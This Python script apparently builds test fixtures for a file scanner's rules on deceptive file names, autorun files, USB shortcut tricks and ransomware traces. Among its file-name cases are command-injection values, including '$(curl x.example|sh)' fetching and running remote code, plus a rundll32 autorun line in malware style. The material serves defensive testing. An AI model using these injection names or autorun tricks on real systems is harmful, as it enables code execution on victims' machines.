#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright The Sekisho authors
"""Makes harmless trees for the rules on names, media and ransomware.

    name-trees.py FOLDER

makes FOLDER/<tree>/…, each a medium of its own, and FOLDER.tsv with a line
`tree TAB ids` for each: the ids that a scan of that tree alone finds, sorted and
joined by commas, `-` for none. The tree `names` is one file a case; FOLDER.names
tells `name TAB ids` for it, names in Python's escapes.
"""
import os
import random
import sys

import pe

noise = random.Random(20261125)
PROGRAM = pe.build(imports={"KERNEL32.dll": ["LoadLibraryA", "GetProcAddress", "GetCommandLineA", "SetUnhandledExceptionFilter", "ExitProcess"]})
DOUBLE = "file.name.double-extension"

HITS = [
    ("請求書.pdf.exe", DOUBLE),
    ("ｾｲｷｭｳｼｮ.pdf.exe", DOUBLE),
    ("振込先変更確認書.PDF.Scr", DOUBLE),
    ("見積書．pdf.exe", DOUBLE),
    ("見積書.ｐｄｆ.ｅｘｅ", DOUBLE),
    ("見積書.p\u200bdf.exe", DOUBLE + ",file.name.invisible"),
    ("見積書\u3000\u3000\u3000\u3000\u3000.exe", DOUBLE),
    ("見積書.docx" + " " * 30 + ".exe", DOUBLE + ",file.name.space-run"),
    ("図面.dwg.lnk", DOUBLE),
    ("注文書.xdw.js", DOUBLE),
    (b"\x90\xbf\x8b\x81\x8f\x91.pdf.exe", DOUBLE),
    ("見積\u202efdp.exe", "file.name.bidi"),
    ("\u2066a\u2069.txt", "file.name.bidi"),
    ("議事\u200b録.docx", "file.name.invisible"),
    ("\ufeff議事録.docx", "file.name.invisible"),
    ("report\u200f.txt", "file.name.invisible"),
    ("納品書．exe", "file.name.dot-like"),
    ("納品書。exe", "file.name.dot-like"),
    ("inv\u043eice.pdf", "file.name.mixed-script"),
    ("資料" + " " * 25 + ".pdf", "file.name.space-run"),
    ("aux.txt", "file.name.device"),
    ("COM¹.log", "file.name.device"),
    ("議事録.docx ", "file.name.trailing"),
    ("setup.exe.", "file.name.trailing,file.name.trailing-program"),
    ("readme.txt:x.exe", "file.name.stream"),
    ("readme.txt:..\\..\\x", "file.name.stream"),
    ("資料.pdf`{echo,aWQ=}|{base64,-d}|bash`", "file.name.command"),
    ("$(curl x.example|sh).pdf", "file.name.command"),
]

# What honest machines have; nothing is found.
MISSES = [
    "post.pdf_kopija.zip", "a.xlsx.xlsx", "report.v1.2.exe", "setup.2024.05.exe", "foo.tar.gz", "7z.exe",
    "ubuntu-22.04.3-desktop-amd64.iso", "python-3.11.2.amd64.msi", "1.2.3", "libfoo.so.1.2.3",
    # programs' sources and packages
    "jquery.min.js", "main.4f3a2b1c.chunk.js", "Box.doc.js", "logo.png.js", "index.html.js", "a.d.ts", "app.js.map",
    "System.Xml.dll", "Spire.Doc.dll", "Newtonsoft.Json.dll", "org.eclipse.birt.pdf.jar", "commons-csv-1.10.jar",
    "requests-2.31.0.dist-info", "aux_source.c", "console.log", "icon.ico", "Foo::Bar.3pm", "{{cookiecutter.name}}.py",
    "{id}.txt", "[slug].tsx", "a{1,2}.txt", "$RECYCLE.BIN", "~$見積書.docx", "._見積書.docx", "__MACOSX", ".DS_Store",
    "1382298770.M1P2.host.example:2,S", "2026-11-25T12:30:00.log", "請求書.pdf:Zone.Identifier",
    # Japanese work
    "見積書_20261125_株式会社関所.xlsx", "【重要】御請求書（１１月分）.pdf", "１．概要.docx", "No．5.xlsx", "お知らせ….pdf",
    "山田\u3000\u3000太郎.docx", "葛\U000e0100城市.pdf", "か\u3099.txt", "ｻﾝﾌﾟﾙ.csv", "①②③.zip", "μPD780.pdf", "10kΩ.xlsx",
    "α版.zip", "見積書.pdf - ショートカット.lnk", "終わりです。", "復号方法.txt", "写真.JPG",
    # other languages, emoji
    "می\u200cخواهم.pdf", "क\u094d\u200dष.txt", "שלום\u200f.txt", "отчёт за май.docx", "👨\u200d👩\u200d👧.png", "1\ufe0f\u20e3.txt",
    b"\x90\xbf\x8b\x81\x8f\x91.pdf", b"\x83\x5c\x83\x74\x83\x67.xls",
]


def dense(size=8192):
    return noise.randbytes(size)


def autorun(lines, encoding="cp932"):
    return ("[AutoRun]\r\n" + "\r\n".join(lines) + "\r\n").encode(encoding)


def trees():
    """Yields (tree, {path: bytes, None for a folder}, ids)."""
    runs, there = "file.autorun.command", "file.autorun.command,file.autorun.present"
    yield "autorun", {"AUTORUN.INF": autorun(["open=ソフト\\表示.EXE /s", "label=見積"]), "ソフト/表示.exe": b"a program"}, there
    yield "autorun-utf16", {"Autorun.inf": b"\xff\xfe" + autorun(["shellexecute=\".\\my tools\\Setup.exe\" -q"], "utf-16-le"), "My Tools/setup.EXE": b"x"}, there
    junk = b"\x81\xff\x00;QzK\r\nkdjf=\xe0\xfd\r\n[AUTORUN]\r\n\x00\x81\r\n"
    yield "autorun-junk", {"autorun.inf": junk + b"sHELL\\open\\Command=RuNdLl32.EXE .\\RECYCLER\\S-5-3\\jwgkvsq.vmx,ahae\r\n", "RECYCLER/S-5-3/jwgkvsq.vmx": PROGRAM}, there
    yield "autorun-folder", {"autorun.inf": autorun(["open=x.exe", "action=フォルダーを開いてファイルを表示する", "icon=%SystemRoot%\\system32\\SHELL32.dll,4"]), "x.exe": b"x"}, \
        "file.autorun.command,file.autorun.disguise,file.autorun.present"
    yield "autorun-absent", {"autorun.inf": autorun(["open=setup.exe"]), "other.exe": b"x", "tools/setup.exe": b"x"}, runs
    yield "autorun-below", {"copy/autorun.inf": autorun(["open=setup.exe"]), "setup.exe": b"x"}, runs
    yield "autorun-page", {"autorun.inf": autorun(["shellexecute=index.htm"]), "index.htm": b"<html></html>"}, runs
    yield "autorun-label", {"autorun.inf": autorun(["label=ドライバー", "icon=driver.ico"]), "setup.exe": b"x", "driver.ico": b"x"}, "-"

    yield "shortcut", {".写真/a.txt": b"x", "写真.lnk": b"x", "書類/b.txt": b"x"}, "file.usb.dot-folder-shortcut"
    yield "shortcut-below", {"x/.書類": None, "x/書類.LNK": b"x"}, "file.usb.dot-folder-shortcut"
    yield "shortcut-named", {".写真": None, ".写真.lnk": b"x"}, "file.usb.folder-shortcut"
    yield "shortcut-honest", {".config/a": b"x", "写真.lnk": b"x", "書類/b.txt": b"x", "書類.lnk": b"x", "y/.写真/a": b"x", ".メモ": b"x", "メモ.lnk": b"x"}, "-"
    yield "blank", {"\u00a0/\u00a0/a.txt": b"x"}, "file.usb.blank-folder"
    yield "blank-honest", {"新しい\u3000フォルダー/a.txt": b"x", "_/b.txt": b"x"}, "-"

    for name in ("Restore-My-Files.txt", "README-RECOVER-a8f3k2.txt", "!!!READ_ME_MEDUSA!!!.txt", "akira_readme.txt", "あなたのファイルは暗号化されています.txt"):
        yield "note-" + str(len(name.encode())), {"%s/%s" % (folder, name): b"x" for folder in ("経理", "設計", "設計/図面")}, "file.ransom.notes"
    yield "note-shape", {"%s/2k4x7q-readme.txt" % folder: b"x" for folder in "abc"}, "file.ransom.notes-shape"
    yield "note-two", {"%s/Restore-My-Files.txt" % folder: b"x" for folder in "ab"}, "-"
    yield "note-collection", {"a/Restore-My-Files.txt": b"x", "b/CONTI_README.txt": b"x", "c/ClopReadMe.txt": b"x"}, "-"
    yield "note-honest", {"%s/%s" % (folder, name): b"x" for folder in "abcd" for name in ("README.txt", "win32-readme.txt", "README.ja.txt", "README.20261125.txt", "復号方法.txt", "MyProject.README.txt")}, "-"

    yield "locked", {"d%d/見積%02d.xlsx.locked" % (i % 4, i): dense() for i in range(20)}, "file.ransom.encrypted-set"
    yield "locked-mail", {"図面%02d.dwg.id[1A2B3C4D-1234].[x@y.example].eking" % i: dense() for i in range(20)}, "file.ransom.encrypted-set"
    yield "locked-nineteen", {"見積%02d.xlsx.locked" % i: dense() for i in range(19)}, "-"
    yield "locked-plain", {"見積%02d.csv.locked" % i: "品番,数量\r\n".encode() * 500 for i in range(25)}, "-"
    yield "locked-vault", {"見積%02d.xlsx.%s" % (i, end): dense() for i in range(25) for end in ("gpg", "enc", "atc", "zip", "7z", "001")}, "-"
    yield "locked-alone", {"見積%02d.locked" % i: dense() for i in range(25)}, "-"


def write(path, data):
    if data is None:
        os.makedirs(path)
        return
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as stream:
        stream.write(data)


def main():
    folder = os.fsencode(sys.argv[1])
    encode = lambda name: name if isinstance(name, bytes) else name.encode()
    with open(folder + b".tsv", "w", encoding="utf-8") as table:
        for tree, files, ids in trees():
            for path, data in files.items():
                write(b"/".join((folder, tree.encode(), encode(path))), data)
            table.write("%s\t%s\n" % (tree, ids))
    with open(folder + b".names", "w", encoding="utf-8") as table:
        for name, ids in HITS + [(name, "-") for name in MISSES]:
            write(b"/".join((folder, b"names", encode(name))), b"x")
            shown = encode(name).decode("utf-8", "backslashreplace")
            table.write("%s\t%s\n" % (shown.encode("unicode_escape").decode(), ids))


if __name__ == "__main__":
    main()
